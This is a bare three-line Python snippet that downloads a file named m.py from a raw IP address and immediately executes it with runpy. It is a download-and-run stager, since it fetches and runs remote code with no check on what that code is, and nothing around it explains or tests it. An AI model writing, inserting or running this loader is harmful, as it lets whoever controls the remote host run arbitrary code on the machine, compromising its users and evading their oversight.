import runpy, urllib.request
path, _ = urllib.request.urlretrieve("http://203.0.113.5/m.py")
runpy.run_path(path)
